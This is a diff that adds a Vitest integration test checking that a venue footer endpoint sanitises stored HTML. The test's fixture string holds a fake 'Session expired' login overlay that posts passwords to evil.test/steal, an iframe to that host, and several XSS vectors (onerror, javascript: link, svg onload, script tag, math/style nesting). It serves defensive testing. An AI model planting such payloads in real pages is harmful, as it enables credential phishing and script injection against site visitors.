@@ -1,7 +1,10 @@
 import { ClientConfig, Theme, defaultTheme } from '@lido/contract';
+import { eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../test-support/test-app';
+import { findVenueByIdentifier } from '../venues/venues.repository';
 import { MAINTENANCE_MESSAGE } from './site-config.service';
+import { venueFooters } from './site-config.tables';
 
 let t: TestApp;
 beforeAll(async () => {
@@ -110,6 +113,31 @@ describe('GET /api/activities/footer', () => {
     expect(response.headers['content-type']).toContain('text/html');
     expect(response.body).toContain('<h2>Swiss Cottage Leisure Centre</h2>');
     expect(response.body).toContain('NW3 3NF');
+  });
+
+  it('serves only the text formatting, links and images of a hostile footer', async () => {
+    const venue = await findVenueByIdentifier(t.db, 'swiss-cottage-leisure-centre');
+    await t.db
+      .update(venueFooters)
+      .set({
+        html:
+          '<div style="position:fixed;inset:0;z-index:9999" class="overlay"><h2>Session expired</h2>' +
+          '<form action="https://evil.test/steal"><input type="password" name="p"><button>Sign in</button></form></div>' +
+          '<iframe src="https://evil.test"></iframe><img src="/logo.png" onerror="alert(1)">' +
+          '<a href="javascript:alert(1)">Terms</a><a href="https://example.org" target="_blank">Map</a>' +
+          '<svg onload="alert(1)"><script>alert(1)</script></svg><math><mtext><style>x</style></mtext></math>',
+      })
+      .where(eq(venueFooters.venueId, venue?.id ?? 0));
+
+    const response = await t.app.inject({
+      method: 'GET',
+      url: '/api/activities/footer?venue=swiss-cottage-leisure-centre',
+    });
+    expect(response.statusCode).toBe(200);
+    expect(response.body).toBe(
+      '<div><h2>Session expired</h2>Sign in</div><img src="/logo.png" /><a>Terms</a>' +
+        '<a href="https://example.org" target="_blank" rel="noopener noreferrer">Map</a>',
+    );
   });
 
   it('answers an empty footer when no venue is named', async () => {
